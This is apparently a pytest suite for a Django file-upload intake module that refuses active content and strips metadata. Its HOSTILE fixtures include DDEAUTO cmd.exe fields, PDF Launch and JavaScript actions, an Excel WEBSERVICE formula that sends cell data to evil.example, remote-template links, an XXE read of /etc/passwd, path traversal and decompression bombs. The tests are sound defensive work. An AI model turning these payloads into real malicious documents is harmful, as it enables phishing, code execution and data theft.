"""Files from outside: known kinds are taken in whole, everything that could act is refused."""

import hashlib
import io
import re
import sys
import time
import unicodedata
import zlib
from email.message import Message
from urllib.parse import unquote

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from common.containers import MEBIBYTE
from common.uploads.downloads import download_headers
from common.uploads.images import MOST_PIXELS
from common.uploads.intake import KINDS, UploadRefused, take_in
from common.uploads.names import clean_name, disposition, extension
from tests.common.files import (
    excel,
    in_document,
    letter,
    object_stream,
    ofd,
    pdf,
    picture,
    repacked,
    retyped,
    with_relationship,
    word,
)
from tests.common.programs import SHAPES
from tests.common.workbooks import package, sheet

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
FIELD_BEGIN = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
FIELD_END = '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
WORD_MAIN = "wordprocessingml.document.main+xml"


def field(*instructions):
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return in_document(FIELD_BEGIN + runs + FIELD_END)


def upload(name, content):
    return ContentFile(content, name=name)


def taken(name, content):
    return take_in(upload(name, content))


HOSTILE = {
    # kinds nobody takes in
    "a.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "a.html": lambda: b"<script>alert(1)</script>",
    "a.lnk": lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
    "a.exe": lambda: b"MZ" + b"\0" * 100,
    "a.pdf.exe": pdf,
    "a.docm": lambda: word("x"),
    "a.xlsm": excel,
    "a.dotx": lambda: word("x"),
    "a.doc": lambda: OLE,
    "a.xls": lambda: OLE,
    "a.zip": ofd,
    "a.rtf": lambda: rb"{\rtf1{\object\objdata}}",
    "a.js": lambda: b"alert(1)",
    "a.gif": lambda: picture("GIF"),
    "a.webp": lambda: picture("WEBP"),
    "a.txt": lambda: b"text",
    "a": pdf,
    "a.pdf ": lambda: b"",
    "pdf": pdf,
    # content that is not what the extension says
    "html.pdf": lambda: b"<html><script>alert(1)</script></html>",
    "late.pdf": lambda: b"<script>alert(1)</script>" + pdf(),
    "cut.pdf": lambda: pdf()[:-20],
    "zip.pdf": lambda: pdf()[:-6] + ofd() + b"\n%%EOF\n",
    "ole.docx": lambda: OLE,
    "excel.docx": excel,
    "word.xlsx": lambda: word("x"),
    "word.ofd": lambda: word("x"),
    "other.ofd": lambda: ofd({"OFD.xml": "<a/>"}),
    "pdf.jpg": pdf,
    "png.jpg": lambda: picture("PNG"),
    "jpg.png": picture,
    "html.png": lambda: b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    "cut.jpg": lambda: picture(size=(600, 400))[:400],
    "cut.png": lambda: picture("PNG", size=(600, 400))[:200],
    # PDFs that act
    "script.pdf": lambda: pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"),
    "hexed.pdf": lambda: pdf(b"4 0 obj<</S/J#61vaScr#69pt/JS(1)>>endobj"),
    "packed.pdf": lambda: pdf(object_stream(b"4 0 <</S/JavaScript/JS(app.alert(1))>>")),
    "packed-hexed.pdf": lambda: pdf(
        object_stream(b"4 0 <</S/JavaScript>>", b"/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode")
    ),
    "behind-a-string.pdf": lambda: pdf(
        b"8 0 obj<</A(stream\n)>>endobj " + object_stream(b"4 0 <</S/JavaScript/JS(1)>>")
    ),
    "odd-filter.pdf": lambda: pdf(
        b"9 0 obj<</Type/ObjStm/Filter/LZWDecode>>\nstream\nxxxxxxxxx\nendstream endobj"
    ),
    "bomb.pdf": lambda: pdf(object_stream(b" " * (205 * MEBIBYTE))),
    "launch.pdf": lambda: pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
    "embedded.pdf": lambda: pdf(b"4 0 obj<</Type/EmbeddedFile>>endobj"),
    "elsewhere.pdf": lambda: pdf(b"4 0 obj<</S/GoToR/F(\\\\evil\\x.pdf)>>endobj"),
    "submit.pdf": lambda: pdf(b"4 0 obj<</S/SubmitForm/F(http://evil)>>endobj"),
    "xfa.pdf": lambda: pdf(b"4 0 obj<</XFA 5 0 R>>endobj"),
    "media.pdf": lambda: pdf(b"4 0 obj<</Subtype/RichMedia>>endobj"),
    "locked.pdf": lambda: pdf(trailer=b"/Encrypt 5 0 R"),
    # Word files that act
    "macro.docx": lambda: repacked(word("x"), {"word/vbaProject.bin": b"x"}),
    "macro-type.docx": lambda: retyped(word("x"), WORD_MAIN, "x.macroEnabled.main+xml"),
    "embedded.docx": lambda: repacked(word("x"), {"word/embeddings/oleObject1.bin": OLE}),
    "hidden-ole.docx": lambda: repacked(word("x"), {"word/media/image1.png": OLE}),
    "activex.docx": lambda: repacked(word("x"), {"word/activeX/activeX1.xml": b"<a/>"}),
    "nested.docx": lambda: repacked(word("x"), {"word/media/a.bin": ofd()}),
    "program.docx": lambda: repacked(word("x"), {"word/media/a.exe": b"MZ"}),
    "template.docx": lambda: with_relationship("attachedTemplate", "https://evil.example/a.dotm"),
    "picture-out.docx": lambda: with_relationship("image", "https://evil.example/a.png"),
    "smb.docx": lambda: with_relationship("image", "file://evil.example/share/a.png"),
    "ole-link.docx": lambda: with_relationship("oleObject", "https://evil.example/a.html!x"),
    "frame.docx": lambda: with_relationship("frame", "https://evil.example/"),
    "protocol.docx": lambda: with_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "script-link.docx": lambda: with_relationship("hyperlink", "javascript:alert(1)"),
    "chunk.docx": lambda: with_relationship("aFChunk", "a.html", "Internal"),
    "alt-chunk.docx": lambda: in_document(
        '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        ' r:id="rId9"/>'
    ),
    "dde.docx": lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "dde-split.docx": lambda: field(" DD", "EAU", "TO c:\\\\cmd.exe"),
    "dde-simple.docx": lambda: in_document('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'),
    "include.docx": lambda: field(' INCLUDETEXT "https://evil.example/a.docx"'),
    "doctype.docx": lambda: repacked(
        word("x"), {"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}
    ),
    "climb.ofd": lambda: ofd({"../../etc/cron.d/x": "x"}),
    "program.ofd": lambda: ofd({"Doc_0/Res/a.bin": b"MZ\x90\0"}),
    "nested.ofd": lambda: ofd({"Doc_0/Attachs/a.bin": ofd()}),
    "bomb.ofd": lambda: ofd({"Doc_0/Res/a.jb2": b"\0" * (60 * MEBIBYTE)}),
    "external.xlsx": lambda: package(
        {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
    ).getvalue(),
    "macro.xlsx": lambda: package({"xl/vbaProject.bin": b"x"}).getvalue(),
    "connections.xlsx": lambda: package({"xl/connections.xml": "<connections/>"}).getvalue(),
    "query.xlsx": lambda: package({"xl/queryTables/queryTable1.xml": "<a/>"}).getvalue(),
    "fetching.xlsx": lambda: calculating('WEBSERVICE("http://evil.example/"&amp;A1)'),
    "fetching-coded.xlsx": lambda: calculating('_xlfn.&#87;EBSERVICE ("http://evil.example")'),
    "dde.xlsx": lambda: calculating("cmd|'/c calc'!A0"),
    "calling.xlsx": lambda: calculating('CALL("Shell32","ShellExecuteA","JJCCCCJ")'),
    "fetching-late.xlsx": lambda: calculating(
        'RTD("prog.id","")', before=f"<!--{'x' * 262_100}-->"
    ),
    "link-field.docx": lambda: field(' HYPERLINK "javascript:alert(1)"'),
    "share-field.docx": lambda: field(' HYPERLINK "\\\\\\\\evil\\share"'),
    "database.docx": lambda: field(' DATABASE \\d "c:\\x.mdb" \\s "SELECT"'),
    "svg.docx": lambda: repacked(
        word("x"), {"word/media/a.svg": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'}
    ),
    "java.docx": lambda: repacked(word("x"), {"a/B.class": b"\xca\xfe\xba\xbe"}),
    "page.docx": lambda: repacked(word("x"), {"word/afchunk.mht": b"MIME-Version: 1.0"}),
    "script.ofd": lambda: ofd(
        {"Doc_0/Annots/A.xml": '<ofd:URI xmlns:ofd="x" URI=" java&#115;cript:alert(1)"/>'}
    ),
    "share.ofd": lambda: ofd({"Doc_0/A.xml": '<ofd:URI xmlns:ofd="x" URI="file://evil/a.exe"/>'}),
    "a.heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100,
    "a.wps": lambda: OLE,
    "a.mht": lambda: b"MIME-Version: 1.0",
    "a.xlsb": excel,
    "a.iqy": lambda: b"WEB\n1\nhttp://evil.example/",
    "a.url": lambda: b"[InternetShortcut]\nURL=file://evil/a.exe",
}


def calculating(formula, before=""):
    """A workbook with one formula that has been computed."""
    row = f'{before}<row r="1"><c r="A1" t="str"><f>{formula}</f><v>0</v></c></row>'
    return package({"xl/worksheets/sheet1.xml": sheet(row)}).getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_with_a_chinese_sentence(name):
    content = HOSTILE[name]()
    started = time.perf_counter()

    with pytest.raises(UploadRefused) as refusal:
        taken(name, content)

    assert re.search(r"[\u4e00-\u9fff]{4,}.*。$", str(refusal.value))
    assert time.perf_counter() - started < 5


BENIGN = {
    "ours.pdf": lambda: letter()[0],
    "ours.docx": lambda: letter()[1],
    "plain.pdf": pdf,
    "packed.pdf": lambda: pdf(object_stream(b"4 0 <</Type/Font>>")),
    "two-streams.pdf": lambda: pdf(
        object_stream(b"4 0 <</Type/Font>>")
        + b"7 0 obj<</Length 9/Filter/DCTDecode>>\nstream\n\xff\xd8\xff/JS(x)\nendstream endobj"
    ),
    "link.pdf": lambda: pdf(b"4 0 obj<</S/URI/URI(https://www.npc.gov.cn)>>endobj"),
    "PAPER.PDF": pdf,
    "plain.docx": lambda: word("关于加强老旧小区充电设施建设的建议", "{{ 7*7 }}", "DDE 是一种机制"),
    "field.docx": lambda: field(" PAGE ", " \\* MERGEFORMAT"),
    "contents.docx": lambda: field(' TOC \\o "1-3" \\h '),
    "mail-link.docx": lambda: with_relationship("hyperlink", "mailto:gongwei@example.gov.cn"),
    "web-link.docx": lambda: with_relationship("hyperlink", "https://www.npc.gov.cn/"),
    "picture.docx": lambda: repacked(word("x"), {"word/media/image1.png": picture("PNG")}),
    "plain.xlsx": excel,
    "minimal.xlsx": lambda: package().getvalue(),
    "plain.ofd": ofd,
    "seal.ofd": lambda: ofd({"Doc_0/Signs/Sign_0/SignedValue.dat": b"\x30\x82\x01\x00" * 50}),
    "font.ofd": lambda: ofd({"Doc_0/Res/font_1.ttf": b"\0\x01\0\0" + b"x" * 500}),
    "photo.jpg": picture,
    "photo.jpeg": picture,
    "grey.jpg": lambda: picture(mode="L"),
    "print.jpg": lambda: picture(mode="CMYK"),
    "progressive.jpg": lambda: picture(progressive=True),
    "large.jpg": lambda: picture(size=(4000, 3000)),
    **{
        f"{mode}.png": (lambda mode=mode: picture("PNG", mode))
        for mode in ("1", "L", "LA", "P", "RGB", "RGBA")
    },
    "see-through.png": lambda: picture("PNG", "P", transparency=0),
    "tall.png": lambda: picture("PNG", size=(20, 5000)),
    **SHAPES,
}


@pytest.mark.parametrize("name", BENIGN)
def test_a_benign_file_is_taken_in(name):
    file = taken(name, BENIGN[name]())

    assert file.content_type == KINDS[extension(name)].content_type
    assert file.sha256 == hashlib.sha256(file.file.read()).hexdigest()
    assert (file.name, file.size) == (name, file.file.size)
    assert re.fullmatch(r"[0-9a-f]{32}", file.file.name)


@pytest.mark.long
def test_sixty_of_each_and_more():
    refused = {name for name in HOSTILE if refusal_of(name, HOSTILE[name]())}
    wronged = {name for name in BENIGN if refusal_of(name, BENIGN[name]())}

    sys.stdout.write(
        f"\n#26 hostile files accepted {len(HOSTILE) - len(refused)}/{len(HOSTILE)}, "
        f"benign files refused {len(wronged)}/{len(BENIGN)}\n"
    )
    assert min(len(HOSTILE), len(BENIGN)) >= 60
    assert (set(HOSTILE) - refused, wronged) == (set(), set())


def refusal_of(name, content):
    try:
        taken(name, content)
    except UploadRefused as refusal:
        return str(refusal)
    return ""


WHAT_WOULD_DO = (
    "可以上传：PDF、Word（.docx）、Excel（.xlsx）、OFD、图片（.jpg、.png），每个不超过20MB。"
)


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        (
            "现场.heic",
            b"x",
            f"“现场.heic”是.heic文件，不支持上传。请转存为.jpg或.png后再上传。{WHAT_WOULD_DO}",
        ),
        ("附件", b"x", f"“附件”没有扩展名，无法识别。{WHAT_WOULD_DO}"),
        (
            "报告.pdf",
            b"%PDF-" + b"x" * (21 * MEBIBYTE),
            "“报告.pdf”有21.0MB，超过20MB，请拆分或压缩后再上传。",
        ),
        ("空.pdf", b"", "“空.pdf”是空的，请重新选择。"),
        ("假.pdf", b"<html>", "“假.pdf”：文件内容与扩展名不符，或PDF不完整。"),
    ],
    ids=["kind", "no kind", "size", "nothing", "content"],
)
def test_a_refusal_says_which_file_what_is_wrong_and_what_would_do(name, content, sentence):
    assert refusal_of(name, content) == sentence


def test_a_paper_is_stored_byte_for_byte():
    content = pdf()

    assert taken("a.pdf", content).file.read() == content


def test_a_file_above_twenty_megabytes_is_refused_even_if_its_size_is_lied_about():
    class Lying(SimpleUploadedFile):
        size = 10

    large = b"%PDF-" + b"x" * (20 * MEBIBYTE)

    with pytest.raises(UploadRefused, match="超过20MB"):
        taken("a.pdf", large)
    lying = Lying("a.pdf", large)
    lying.size = 10
    with pytest.raises(UploadRefused, match="超过20MB"):
        take_in(lying)


def test_an_empty_file_is_refused():
    with pytest.raises(UploadRefused, match="空的"):
        taken("a.pdf", b"")


class TestPictures:
    def exif(self):
        exif = Image.Exif()
        exif[0x0110] = "手机型号"
        exif[0x0112] = 6  # turned by a quarter
        exif.get_ifd(0x8825).update({1: "N", 2: (29.0, 33.0, 1.0), 3: "E", 4: (106.0, 33.0, 1.0)})
        return exif.tobytes()

    @pytest.mark.parametrize("kind", ["JPEG", "PNG"])
    def test_place_and_device_are_gone_and_the_picture_stands_upright(self, kind):
        content = picture(kind, exif=self.exif())

        file = taken(f"a.{kind.lower()}", content)

        stored = file.file.read()
        with Image.open(io.BytesIO(stored)) as image:
            assert dict(image.getexif()) == {}
            assert image.size == (40, 60)
        assert b"GPS" not in stored
        assert "手机型号".encode() not in stored

    def test_comments_texts_profiles_and_trailing_bytes_are_gone(self):
        texts = PngImagePlugin.PngInfo()
        texts.add_text("Comment", "<script>alert(1)</script>")
        png = (
            picture("PNG", pnginfo=texts, icc_profile=b"profile" * 20)
            + b"<script>alert(2)</script>"
        )
        jpeg = picture(comment=b"<script>alert(3)</script>") + b"PK\x03\x04stowaway"

        stored = taken("a.png", png).file.read() + taken("a.jpg", jpeg).file.read()

        assert b"script" not in stored
        assert b"profile" not in stored
        assert b"stowaway" not in stored

    def test_the_picture_itself_stays_what_it_was(self):
        stored = taken("a.png", picture("PNG", "RGBA")).file.read()

        with (
            Image.open(io.BytesIO(stored)) as new,
            Image.open(io.BytesIO(picture("PNG", "RGBA"))) as old,
        ):
            assert new.tobytes() == old.tobytes()

    @pytest.mark.parametrize("size", [(30_000, 30_000), (9_000, 8_000), (65_500, 1)])
    def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked(self, size):
        header = picture("PNG", "L", size=(1, 1))
        width, height = (number.to_bytes(4, "big") for number in size)
        ihdr = b"IHDR" + width + height + header[24:29]
        bomb = header[:12] + ihdr + zlib.crc32(ihdr).to_bytes(4, "big") + header[33:]
        assert size[0] * size[1] > MOST_PIXELS or max(size) > 20_000
        started = time.perf_counter()

        with pytest.raises(UploadRefused, match="像素过多"):
            taken("a.png", bomb)

        assert time.perf_counter() - started < 0.5


class TestNames:
    @pytest.mark.parametrize(
        ("given", "kept"),
        [
            ("现场照片.jpg", "现场照片.jpg"),
            ("../../etc/passwd.pdf", "passwd.pdf"),
            ("..\\..\\windows\\a.pdf", "a.pdf"),
            ("C:\\我的文档\\建议.docx", "建议.docx"),
            ("a\0b.pdf", "ab.pdf"),
            ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie_ x=1.pdf"),
            ("invoice\u202excod.exe.pdf", "invoicexcod.exe.pdf"),
            ("a\u200b\u2066b\ufeff.pdf", "ab.pdf"),
            ('<a>"b"|c?*.pdf', "_a__b__c__.pdf"),
            ("con.pdf", "_con.pdf"),
            ("LPT1", "_LPT1"),
            (" .隐藏.pdf. ", "隐藏.pdf"),
            ("", "未命名"),
            ("...", "未命名"),
            ("𠮷田㛃𬱟的建议.pdf", "𠮷田㛃𬱟的建议.pdf"),
            ("👩‍👩‍👧‍👦❤️.png", "👩‍👩‍👧‍👦❤️.png"),
            ("e\u0301.pdf", "é.pdf"),
            ("长" * 100 + ".pdf", "长" * 83 + ".pdf"),
            ("x" * 300 + ".docx", "x" * 250 + ".docx"),
        ],
    )
    def test_a_name_loses_what_is_dangerous_and_nothing_else(self, given, kept):
        assert clean_name(given) == kept

    @given(st.text(max_size=400))
    def test_no_name_is_ever_a_path_too_long_or_deceiving(self, name):
        cleaned = clean_name(name)

        assert 0 < len(cleaned.encode()) <= 255
        assert not set(cleaned) & set('/\\<>:"|?*')
        assert not any(
            unicodedata.category(char) in ("Cc", "Cs", "Zl", "Zp")
            or unicodedata.bidirectional(char) in ("RLO", "LRO", "RLE", "LRE", "PDF", "RLI", "LRI")
            for char in cleaned
        )
        assert cleaned not in (".", "..")
        assert clean_name(cleaned) == cleaned

    @given(st.text(max_size=120))
    def test_every_name_survives_the_journey_through_the_header(self, name):
        header = disposition(name)

        message = Message()
        message["Content-Disposition"] = header
        assert header.isascii()
        assert header.isprintable()
        assert message.get_content_disposition() == "attachment"
        encoded = re.search(r"filename\*=UTF-8''([^;]*)$", header)
        came = unquote(encoded[1]) if encoded else message.get_filename()
        assert came == clean_name(name)


class TestDownloads:
    def test_headers_make_a_file_inert(self):
        assert download_headers("现场照片.jpg", "image/jpeg") == {
            "Content-Type": "image/jpeg",
            "Content-Disposition": 'attachment; filename="jpg"; '
            "filename*=UTF-8''%E7%8E%B0%E5%9C%BA%E7%85%A7%E7%89%87.jpg",
            "X-Content-Type-Options": "nosniff",
            "Content-Security-Policy": "default-src 'none'; sandbox",
            "Cross-Origin-Resource-Policy": "same-origin",
            "Referrer-Policy": "no-referrer",
            "Cache-Control": "private, no-store",
        }

    @pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "x\r\nSet-Cookie: a=b", ""])
    def test_a_type_that_is_never_taken_in_is_sent_as_plain_bytes(self, kind):
        assert download_headers("a", kind)["Content-Type"] == "application/octet-stream"
